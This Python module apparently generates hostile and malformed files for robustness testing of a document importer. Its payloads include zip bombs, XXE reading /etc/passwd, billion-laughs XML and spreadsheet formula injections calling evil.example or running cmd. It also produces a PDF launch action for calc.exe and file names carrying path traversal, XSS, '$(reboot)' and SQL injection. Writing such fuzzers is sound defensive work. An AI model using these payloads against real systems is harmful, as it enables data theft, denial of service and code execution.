"""Files made to do harm, or merely broken: kinds of them, each made from a seed, for every door that files come in by.

A kind takes a random number generator and a sound file of a door and gives a name and bytes back. Nothing is kept on
disk: the same seed gives the same file.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

Chance = random.Random
FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=WEBSERVICE(\"http://evil.example/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True, repr=False)
class Sound:
    """A sound file of a door: what hostile ones are made from."""

    file_name: str
    content: bytes

    @property
    def suffix(self) -> str:
        return "." + self.file_name.rpartition(".")[2]

    @property
    def is_zip(self) -> bool:
        return self.content.startswith(b"PK")


Kind = Callable[[Chance, Sound], Sound]


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {part.filename: archive.read(part) for part in archive.infolist()}


def archive(made: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as out:
        for name, content in made.items():
            out.writestr(name, content)
    return buffer.getvalue()


def with_parts(sound: Sound, change: Callable[[dict[str, bytes]], None]) -> Sound:
    """A zip with its parts changed, whole and with right checksums; a file that is no zip inside one."""
    held = parts(sound.content) if sound.is_zip else {"word/document.xml": b"<a/>", "a.bin": sound.content[:9999]}
    change(held)
    return Sound(sound.file_name if sound.is_zip else "表.docx", archive(held))


def main_parts(held: dict[str, bytes]) -> list[str]:
    """The parts that hold words and cells."""
    wanted = r"sheet\d*\.xml$|document\.xml$|sharedStrings|styles|workbook\.xml$"
    return [name for name in held if re.search(wanted, name)]


def spoiled(chance: Chance, content: bytes, most: int = 8) -> bytes:
    """A few bytes changed, cut out, doubled, or made as large as they go."""
    changed = bytearray(content)
    for _ in range(chance.randint(1, most)):
        place = chance.randrange(len(changed) or 1)
        match chance.randrange(5):
            case 0:
                changed[place:place + 1] = bytes([chance.randrange(256)])
            case 1:
                del changed[place:place + chance.randint(1, 60)]
            case 2:
                changed[place:place] = changed[place:place + chance.randint(1, 60)]
            case 3:
                changed[place:place + 4] = b"\xff\xff\xff\x7f"
            case 4:
                changed[place:place + 4] = chance.randbytes(4)
    return bytes(changed)


# --- containers ------------------------------------------------------------------------------------------------------

def zip_bomb(chance: Chance, sound: Sound) -> Sound:
    def change(held: dict[str, bytes]) -> None:
        size = chance.choice((5, 30, 121)) << 20
        held[chance.choice(("xl/media/a.bin", *main_parts(held)))] = b"\x00" * size

    return with_parts(sound, change)


def lying_sizes(chance: Chance, sound: Sound) -> Sound:
    """Entries that say another size, place or method than is true."""
    made = bytearray(with_parts(sound, lambda held: None).content)
    entries = [found.start() for found in re.finditer(b"PK\x01\x02", bytes(made))]
    place = chance.choice(entries) + chance.choice((10, 16, 20, 24, 28, 42))
    made[place:place + 4] = chance.choice((b"\xff\xff\xff\xff", b"\x00\x00\x00\x00", struct.pack("<I", 10)))
    return Sound("表.docx" if not sound.is_zip else sound.file_name, bytes(made))


def nested_zip(chance: Chance, sound: Sound) -> Sound:
    inner = archive({"a.txt": b"\x00" * (1 << 20)})
    for _ in range(chance.randint(1, 6)):
        inner = archive({f"{number}.zip": inner for number in range(chance.randint(1, 4))})
    if chance.random() < 0.3:
        return Sound(f"包{chance.choice(('.xlsx', '.docx', '.zip'))}", inner)
    return with_parts(sound, lambda held: held.update({"xl/embeddings/in.zip": inner}))


def many_parts(chance: Chance, sound: Sound) -> Sound:
    count = chance.choice((5_001, 6_000))
    return with_parts(sound, lambda held: held.update({f"xl/media/{number}": b"" for number in range(count)}))


def missing_part(chance: Chance, sound: Sound) -> Sound:
    return with_parts(sound, lambda held: held.pop(chance.choice(sorted(held))) and None)


def spoiled_part(chance: Chance, sound: Sound) -> Sound:
    def change(held: dict[str, bytes]) -> None:
        name = chance.choice(sorted(held))
        held[name] = spoiled(chance, held[name])

    return with_parts(sound, change)


def doubled_parts(chance: Chance, sound: Sound) -> Sound:
    """Two parts of one name: a guard may look at one, and a parser at the other."""
    held = parts(sound.content) if sound.is_zip else {"word/document.xml": b"<a/>"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for name, content in held.items():
            out.writestr(name, content)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            out.writestr(chance.choice(sorted(held)), spoiled(chance, b"<a>" + OUTSIDE.encode() + b"</a>"))
    return Sound(sound.file_name if sound.is_zip else "表.docx", buffer.getvalue())


# --- XML -------------------------------------------------------------------------------------------------------------

def _declared(chance: Chance, words: str) -> Kind:
    def make(_: Chance, sound: Sound) -> Sound:
        def change(held: dict[str, bytes]) -> None:
            name = chance.choice(main_parts(held))
            text = held[name].decode("utf-8", "replace")
            filling = "<!--" + "x" * chance.choice((0, 10, 5_000)) + "-->"
            body = re.sub(r"^<\?xml.*?\?>\s*", "", text)
            used = "&x;" if "SYSTEM" in words else "&c;"
            body = re.sub(r">([^<>]{1,40})<", lambda found: f">{found[1]}{used}<", body, count=3)
            coding = chance.choice(("utf-8", "utf-16"))
            held[name] = f'<?xml version="1.0" encoding="{coding}"?>{filling}{words}{body}'.encode(coding)

        return with_parts(sound, change)

    return make


def outside_entity(chance: Chance, sound: Sound) -> Sound:
    return _declared(chance, OUTSIDE)(chance, sound)


def billion_laughs(chance: Chance, sound: Sound) -> Sound:
    return _declared(chance, LAUGHS)(chance, sound)


def deep_nesting(chance: Chance, sound: Sound) -> Sound:
    depth = chance.choice((500, 5_000, 60_000))
    tag = chance.choice((b"w:sdt", b"a", b"w:tbl", b"row"))

    def change(held: dict[str, bytes]) -> None:
        name = chance.choice(main_parts(held))
        nest = (b"<%b>" % tag) * depth + (b"</%b>" % tag) * depth
        held[name] = re.sub(rb"(</[\w:]+>\s*)$", nest.replace(b"\\", b"") + rb"\1", held[name])

    return with_parts(sound, change)


def macro(chance: Chance, sound: Sound) -> Sound:
    def change(held: dict[str, bytes]) -> None:
        held["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(600)
        types = held.get("[Content_Types].xml", b"")
        held["[Content_Types].xml"] = types.replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")

    made = with_parts(sound, change)
    return Sound("宏.xlsm", made.content) if chance.random() < 0.3 else made


def outside_link(chance: Chance, sound: Sound) -> Sound:
    """Relations that point to another machine or to a file of this one."""
    target = chance.choice((
        "http://evil.example/x.dotm", "file:///etc/passwd", "\\\\evil.example\\share", "../../../etc/passwd",
    ))
    kind = chance.choice((
        "externalLink", "attachedTemplate", "oleObject", "image", "styles", "sharedStrings", "worksheet",
    ))

    def change(held: dict[str, bytes]) -> None:
        held["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
        for name in [name for name in held if name.endswith(".rels")]:
            mode = chance.choice(("External", "Internal"))
            more = (
                f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" '
                f'Target="{target}" TargetMode="{mode}"/></Relationships>'
            )
            held[name] = held[name].replace(b"</Relationships>", more.encode())

    return with_parts(sound, change)


# --- sheets ----------------------------------------------------------------------------------------------------------

def _in_sheets(sound: Sound, change: Callable[[bytes], bytes]) -> Sound:
    """The sheets of a workbook changed; of any other file, the document or the bytes."""
    if not sound.is_zip:
        return Sound(sound.file_name, change(sound.content))

    def each(held: dict[str, bytes]) -> None:
        for name in held:
            if re.search(r"worksheets/[^/]+\.xml$|document\.xml$", name):
                held[name] = change(held[name])

    return with_parts(sound, each)


def formulas(chance: Chance, sound: Sound) -> Sound:
    from xml.sax.saxutils import escape

    words = chance.choice(FORMULAS)
    if not sound.is_zip:
        typed = words.replace('"', "").encode()
        return Sound(sound.file_name, re.sub(rb"(?<=,)[^,\n\"]*(?=,)", typed, sound.content, count=5))
    has_result = chance.random() < 0.5
    cell = f"<f>{escape(words.lstrip('='))}</f>" + ("<v>1</v>" if has_result else "")
    count = chance.randint(1, 4)

    def typed(xml: bytes) -> bytes:
        if b"<v>" in xml:
            return re.sub(rb"<v>[^<]*</v>", lambda _: cell.encode(), xml, count=count)
        return re.sub(rb"(?<=<w:t>)[^<]*", lambda _: escape(words).encode(), xml, count=count)

    return _in_sheets(sound, typed)


def empty_rows(chance: Chance, sound: Sound) -> Sound:
    if not sound.is_zip:
        return Sound(sound.file_name, sound.content + chance.choice((b"\n", b"\r\n", b",,,\n", b" \n")) * 300_000)
    style = chance.choice((b"", b' s="1"'))
    blank = b'<row r="1048576"><c r="XFD1048576"' + style + b"/></row></sheetData>"
    dimension = b'<dimension ref="A1:XFD1048576"/>'
    return _in_sheets(sound, lambda xml: re.sub(rb"<dimension [^>]*/>", dimension, xml).replace(b"</sheetData>", blank))


def far_cell(chance: Chance, sound: Sound) -> Sound:
    where = chance.choice(("XFD1048576", "A1048576", "ZZ1", "A99999999", "ZZZZ9", "XFE1048577"))
    quote = chance.choice(('"', "'"))
    more = f"<row r={quote}1048576{quote}><c r={quote}{where}{quote}><v>1</v></c></row></sheetData>".encode()
    if chance.random() < 0.3:
        more = more.replace(b" r=", b" r =")
    return _in_sheets(sound, lambda xml: xml.replace(b"</sheetData>", more))


def many_sheets(chance: Chance, sound: Sound) -> Sound:
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        for _ in range(chance.choice((2, 51, 300))):
            book.add_worksheet()
    return Sound("多.xlsx", buffer.getvalue())


def merged(chance: Chance, sound: Sound) -> Sound:
    refs = chance.choice((
        ["A1:XFD1048576"], ["A1:C9", "B2:D10"], ["B8:B40"], ["C1:A1"], ["A0:B0"], ["ZZZZ1:ZZZZ2"],
        [f"A{row}:B{row}" for row in range(1, 20_100)],
    ))
    cells = "".join(f'<mergeCell ref="{ref}"/>' for ref in refs)
    span = chance.choice((2, 300, 10**9))
    made = f'</sheetData><mergeCells count="{chance.choice((1, 99999999))}">{cells}</mergeCells>'.encode()
    return _in_sheets(sound, lambda xml: xml.replace(b"</sheetData>", made).replace(
        b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="%d"/>' % span
    ))


def hidden(chance: Chance, sound: Sound) -> Sound:
    state = chance.choice((b"hidden", b"veryHidden"))

    def change(held: dict[str, bytes]) -> None:
        for name in held:
            if name.endswith("workbook.xml") and chance.random() < 0.4:
                held[name] = held[name].replace(b"<sheet ", b'<sheet state="%b" ' % state)
            elif "worksheets/" in name:
                held[name] = held[name].replace(b"<row ", b'<row hidden="1" ')

    return with_parts(sound, change)


def odd_numbers(chance: Chance, sound: Sound) -> Sound:
    word = chance.choice((
        "1e308", "1E400", "-0", "NaN", "INF", "44561", "44561.999988", "-44561", "2958466", "9" * 400, "0x10", "",
    ))
    if not sound.is_zip:
        return Sound(sound.file_name, re.sub(rb"(?<=,)\d+(?=[,\n])", word.encode(), sound.content))
    return _in_sheets(sound, lambda xml: re.sub(rb"(<c [^>]*?)( t=\"\w+\")?(>)<v>[^<]*</v>", lambda found: (
        found[1] + b">" + b"<v>" + word.encode() + b"</v>"
    ), xml, count=chance.randint(1, 30)))


def false_counts(chance: Chance, sound: Sound) -> Sound:
    """Numbers of the container's own parts, made far too large or negative."""
    word = chance.choice((b"99999999999", b"-1", b"4294967295", b"x"))

    def change(held: dict[str, bytes]) -> None:
        for name in main_parts(held):
            held[name] = re.sub(
                rb'((?:uniqueCount|count|s|sheetId|numFmtId|w:val)=")\d+(?=")', rb"\g<1>" + word, held[name],
                count=chance.randint(1, 6),
            )
            if chance.random() < 0.3:
                held[name] = re.sub(rb"(t=\"s\"[^>]*><v>)\d+", rb"\g<1>" + word, held[name], count=2)

    return with_parts(sound, change)


def long_cells(chance: Chance, sound: Sound) -> Sound:
    words = chance.choice(("长", "a", "9", "，", " ", "&amp;")) * chance.choice((2_001, 40_000, 700_000))
    if not sound.is_zip:
        return Sound(sound.file_name, re.sub(rb"(?<=,)[^,\n\"]+(?=,)", words.encode(), sound.content, count=3))

    def change(held: dict[str, bytes]) -> None:
        for name in main_parts(held):
            held[name] = re.sub(
                rb"(<(?:w:)?t(?: [^>]*)?>)[^<]+", lambda found: found[1] + words.encode(), held[name], count=2
            )

    return with_parts(sound, change)


# --- whatever the format ---------------------------------------------------------------------------------------------

def wrong_suffix(chance: Chance, sound: Sound) -> Sound:
    suffix = chance.choice((
        ".xlsx", ".xls", ".docx", ".doc", ".pdf", ".txt", ".csv", ".parquet", ".png", ".jpg", ".xlsm", ".xlsb", ".et",
        ".wps", ".ofd", ".exe", "", ".XLSX", ".xlsx ", ".md", ".rar",
    ))
    head = chance.choice((b"", b"", b"", b"MZ\x90\x00\x03", b"\x7fELF\x02", b"<html><table>", b"Rar!\x1a", b"{\\rtf1"))
    return Sound(f"改名{suffix}", head + sound.content)


def truncated(chance: Chance, sound: Sound) -> Sound:
    return Sound(sound.file_name, sound.content[:chance.randrange(len(sound.content))])


def spoiled_bytes(chance: Chance, sound: Sound) -> Sound:
    return Sound(sound.file_name, spoiled(chance, sound.content, 12))


def encrypted(chance: Chance, sound: Sound) -> Sound:
    if sound.suffix == ".pdf":
        return Sound(sound.file_name, sound.content.replace(b"trailer\n<<", b"trailer\n<<\n/Encrypt 99 0 R"))
    if sound.is_zip and chance.random() < 0.5:
        made = bytearray(sound.content)
        for found in list(re.finditer(b"PK\x01\x02", sound.content)):
            made[found.start() + 8] |= 1
        for found in list(re.finditer(b"PK\x03\x04", sound.content)):
            made[found.start() + 6] |= 1
        return Sound(sound.file_name, bytes(made))
    stream = "EncryptedPackage".encode("utf-16-le")
    return Sound("密.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + stream + chance.randbytes(800))


def nul_bytes(chance: Chance, sound: Sound) -> Sound:
    made = bytearray(sound.content)
    for _ in range(chance.randint(1, 40)):
        place = chance.randrange(len(made))
        made[place:place + chance.choice((0, 1))] = b"\x00"
    return Sound(sound.file_name, bytes(made))


def odd_encoding(chance: Chance, sound: Sound) -> Sound:
    if sound.is_zip or sound.suffix in (".pdf", ".xls", ".parquet", ".png"):
        words = "文号,单位\n巴财社〔2021〕96号,轮台县\n"
    else:
        words = sound.content.decode("utf-8-sig", "replace")
    codings = ("gb18030", "gbk", "big5", "utf-16", "utf-16-le", "utf-32", "utf-7", "shift_jis", "latin-1", "cp037")
    made = words.encode(chance.choice(codings), "replace")
    if chance.random() < 0.5:
        made = spoiled(chance, made, 3)
    return Sound(f"码{chance.choice(('.txt', '.csv', '.md'))}", made)


def odd_text(chance: Chance, sound: Sound) -> Sound:
    """Tables of words with quotes that never end, thousands of cells, one endless line, other line ends."""
    words = sound.content if sound.suffix in (".csv", ".txt") else "文号,单位,环节\n甲,乙,丙\n".encode()
    made = (
        lambda: words.replace(b",", b',"', 1), lambda: words.replace(b"\n", b"," * 20_000 + b"\n"),
        lambda: words + b"a" * 3_000_000, lambda: words.replace(b"\n", b"\r"), lambda: words.replace(b",", b"\t"),
        lambda: words.replace(b"\n", b"\n\n\n"), lambda: b"\xef\xbb\xbf" * 3 + words, lambda: words + words,
        lambda: words.split(b"\n")[0], lambda: b"\n" * 50_000 + words, lambda: words.replace(b",", b";"),
        lambda: (b"a(" * 3_000), lambda: "一、".encode() * 3_000, lambda: "（1）".encode() * 3_000 + words,
        lambda: b"1,234" * 3_000, lambda: "附件".encode() * 3_000 + b"\n" + words,
    )
    return Sound(f"文{chance.choice(('.csv', '.txt'))}", chance.choice(made)())


def odd_pdf(chance: Chance, sound: Sound) -> Sound:
    """Pages that are their own parents, boxes without end, streams that unpack to much, counts that are false."""
    bomb = zlib.compress(b"\x00" * (chance.choice((10, 121)) << 20), 9)
    bodies = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>endobj",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e38 1e38]/Contents 4 0 R>>endobj "
        b"4 0 obj<</Length %d/Filter/FlateDecode>>\nstream\n" % len(bomb) + bomb + b"\nendstream endobj",
        b"1 0 obj" + b"[" * chance.choice((900, 90_000)) + b"]" * 900 + b"endobj",
        b"1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/OpenAction<</S/Launch/F(calc.exe)>>>>endobj",
        b"1 0 obj<</Type/ObjStm/N 99999999/First 9/Length 3>>\nstream\nabc\nendstream endobj",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj "
        b"4 0 obj<</Length 30>>\nstream\n" + b"q 0 0 m 9 9 l S Q " * chance.choice((10, 9_000)) + b"\nendstream endobj",
    )
    trailer = chance.choice((
        b"", b"trailer<</Root 1 0 R/Size 5>>", b"trailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF",
    ))
    return Sound("怪.pdf", b"%PDF-1.7\n" + chance.choice(bodies) + b"\n" + trailer)


def odd_name(chance: Chance, sound: Sound) -> Sound:
    """Names that mean to leave a folder, to be run, to be markup, or that are endless."""
    stem = chance.choice((
        "../../../etc/passwd", "..\\..\\boot", "C:\\表", "a\x00b", "a\nb", "<img src=x onerror=alert(1)>", "长" * 300,
        "$(reboot)", "%s%n{0}", "\u202ecod.", "表'; DROP TABLE notice; --", " ", "con", "《套》", "=cmd",
    ))
    return Sound(stem + sound.suffix, spoiled(chance, sound.content) if chance.random() < 0.7 else sound.content)


KINDS: dict[str, Kind] = {
    kind.__name__: kind for kind in (
        zip_bomb, lying_sizes, nested_zip, many_parts, missing_part, spoiled_part, doubled_parts, outside_entity,
        billion_laughs, deep_nesting, macro, outside_link, formulas, empty_rows, far_cell, many_sheets, merged, hidden,
        odd_numbers, false_counts, long_cells, wrong_suffix, truncated, spoiled_bytes, encrypted, nul_bytes,
        odd_encoding, odd_text, odd_pdf, odd_name,
    )
}
